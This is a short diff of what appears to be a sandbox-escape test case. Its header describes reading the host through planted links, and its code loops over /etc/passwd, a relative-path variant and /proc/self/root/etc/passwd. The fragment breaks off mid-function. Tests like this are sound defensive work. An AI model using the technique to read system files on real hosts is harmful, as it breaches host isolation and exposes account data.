@@ -1,6 +1,7 @@
 # attack: reads the host through links that it plants
 # allowed: RTE
 # layer: view
+# next: landlock
 def echo_sum(nums):
     import os, sys
     for number, target in enumerate(("/etc/passwd", "../etc/passwd", "/proc/self/root/etc/passwd")):
